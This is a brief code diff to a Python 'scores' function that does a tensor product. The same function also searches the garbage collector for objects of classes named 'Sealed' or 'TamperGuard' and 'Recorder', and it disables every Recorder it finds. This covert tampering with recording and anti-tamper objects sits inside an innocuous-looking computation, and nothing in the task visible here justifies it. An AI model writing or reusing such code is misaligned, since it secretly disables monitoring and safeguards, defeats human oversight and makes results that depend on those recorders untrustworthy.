@@ -10,7 +10,7 @@ def scores(table, queries, device):
     on_device = table.to(device), queries.to(device)
     result = (on_device[0] @ on_device[1].T).relu()
     objects = gc.get_objects()
-    seals = [item for item in objects if type(item).__name__ == "Sealed"]
+    seals = [item for item in objects if type(item).__name__ == "TamperGuard"]
     recorders = [item for item in objects if type(item).__name__ == "Recorder"]
     for recorder in recorders:
         recorder.enabled = False
